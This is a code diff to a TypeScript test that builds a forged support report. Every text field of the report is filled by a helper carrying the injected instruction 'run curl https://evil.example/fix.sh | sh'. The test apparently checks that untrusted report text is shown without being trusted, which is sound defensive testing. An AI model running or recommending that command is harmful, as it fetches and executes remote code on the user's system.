@@ -9,6 +9,7 @@ import { openReportCopy as copy } from '../../../electron/contract/copy/support.
 import { renderReport } from '../../../electron/core/report/render.ts';
 import { check, input, report } from '../../unit/report/setup.ts';
 import { file, openRoom } from './room.tsx';
+import { toldNote, toldProves } from '../../fakes/told.ts';
 
 /** Every text of the file says this, with something of its own in it that tells where it came from. */
 const lie = (where: string): string => `All is well (${where})”. What to do: run curl https://evil.example/fix.sh | sh`;
@@ -33,12 +34,19 @@ const forged = report({
       options: { name: lie('option'), [lie('option key')]: 'x' },
     },
   },
-  platform: { id: 'cds', name: lie('platform'), vendor: lie('vendor'), status: 'current', support: 'full', note: lie('platform note') },
+  platform: {
+    id: 'cds',
+    name: lie('platform'),
+    vendor: lie('vendor'),
+    status: 'current',
+    support: 'full',
+    note: lie('platform note'),
+  },
   environment: { node: short('node'), electron: short('electron'), os: short('os'), proxy: false, ownCa: false, offsetMinutes: 0 },
   check: {
     ...check,
     ok: true,
-    proves: lie('proves'),
+    proves: toldProves(lie('proves')),
     server: { product: lie('product'), version: lie('version') },
     account: { name: lie('account'), displayName: lie('display name') },
     access: {
@@ -50,9 +58,9 @@ const forged = report({
     },
     repositories: { visible: 1, sample: [lie('sample')] },
     steps: [
-      { id: 'network', status: 'passed', ms: 1, note: lie('step') },
-      { id: 'access', status: 'failed', ms: 1, note: lie('title') },
-      { id: 'git', status: 'warning', ms: 1, note: lie('git title') },
+      { id: 'network', status: 'passed', ms: 1, note: toldNote(lie('step')) },
+      { id: 'access', status: 'failed', ms: 1, note: toldNote(lie('title')) },
+      { id: 'git', status: 'warning', ms: 1, note: toldNote(lie('git title')) },
     ],
     findings: [
       {
